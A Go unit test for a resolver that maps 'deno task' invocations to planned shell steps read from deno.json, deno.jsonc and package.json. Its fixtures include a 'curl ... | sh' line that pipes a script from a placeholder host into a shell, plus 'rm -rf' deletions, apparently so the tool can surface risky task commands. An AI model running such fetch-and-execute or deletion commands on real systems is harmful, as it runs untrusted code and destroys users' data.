package buildfile

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func TestResolveDenoTask(t *testing.T) {
	const (
		fetchRun = "{\n  \"tasks\": {\n    \"dev\": \"curl -fsSL https://x.example/setup.sh | sh && deno run --watch main.ts\"\n  }\n}\n"
		watch    = "{\n  \"tasks\": {\n    \"dev\": \"deno run --watch main.ts\"\n  }\n}\n"
		jsonc    = "{\n  // tasks\n  \"tasks\": {\n    \"build\": {\n      \"command\": \"deno run -A build.ts\",\n      \"dependencies\": [\"clean\"],\n    },\n    \"clean\": \"rm -rf ~/dist\",\n  },\n}\n"
	)
	sh := func(file string, line int, text, dir string) Step {
		return Step{File: file, Line: line, Text: text, Lang: Shell, Dir: dir}
	}
	tests := []struct {
		name  string
		args  []string
		files fakeFiles
		want  Plan
	}{
		{name: "deno task NAME runs the task as shell", args: []string{"deno", "task", "dev"},
			files: fakeFiles{"/w/deno.json": fetchRun},
			want: Plan{Runner: "deno", Read: []string{"/w/deno.json"},
				Steps: []Step{sh("/w/deno.json", 3, "curl -fsSL https://x.example/setup.sh | sh && deno run --watch main.ts", "/w")}}},
		{name: "benign twin, with arguments, from a subdirectory", args: []string{"deno", "task", "dev", "--port", "8000"},
			files: fakeFiles{"/w/deno.json": watch, "/w/sub/x.ts": ""},
			want: Plan{Runner: "deno", Read: []string{"/w/deno.json"},
				Steps: []Step{sh("/w/deno.json", 3, "deno run --watch main.ts --port 8000", "/w")}}},
		{name: "deno.jsonc: an object task runs its dependencies first", args: []string{"deno", "task", "-q", "build"},
			files: fakeFiles{"/w/deno.jsonc": jsonc},
			want: Plan{Runner: "deno", Read: []string{"/w/deno.jsonc"},
				Steps: []Step{sh("/w/deno.jsonc", 8, "rm -rf ~/dist", "/w"), sh("/w/deno.jsonc", 4, "deno run -A build.ts", "/w")}}},
		{name: "a name deno.json lacks runs package.json's script", args: []string{"deno", "task", "lint"},
			files: fakeFiles{"/w/deno.json": watch, "/w/package.json": "{\"scripts\": {\"lint\": \"eslint .\"}}"},
			want: Plan{Runner: "deno", Read: []string{"/w/deno.json", "/w/package.json"},
				Steps: []Step{sh("/w/package.json", 1, "eslint .", "/w")}}},
		{name: "--eval runs its command", args: []string{"deno", "task", "--eval", "rm", "-rf", "out"},
			files: fakeFiles{},
			want:  Plan{Runner: "deno", Steps: []Step{{Text: "rm -rf out", Lang: Shell, Dir: "/w"}}}},
		{name: "deno task alone lists", args: []string{"deno", "task"},
			files: fakeFiles{"/w/deno.json": fetchRun},
			want:  Plan{Runner: "deno", Read: []string{"/w/deno.json"}, DryRun: true}},
		{name: "--recursive is not read", args: []string{"deno", "task", "-r", "dev"},
			files: fakeFiles{"/w/deno.json": fetchRun},
			want:  Plan{Runner: "deno", Problems: []Problem{{File: "/w/deno.json", Reason: "the tasks of the workspace's members are not read"}}}},
		{name: "deno run is not a task", args: []string{"deno", "run", "main.ts"}, files: fakeFiles{"/w/deno.json": fetchRun}, want: Plan{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Resolve(Invocation{Name: tt.args[0], Args: tt.args[1:], Dir: "/w", Home: "/h"}, tt.files)
			if diff := cmp.Diff(tt.want, got, cmpopts.IgnoreFields(Plan{}, "Size")); diff != "" {
				t.Errorf("Resolve(%q) (-want +got):\n%s", tt.args, diff)
			}
		})
	}
}
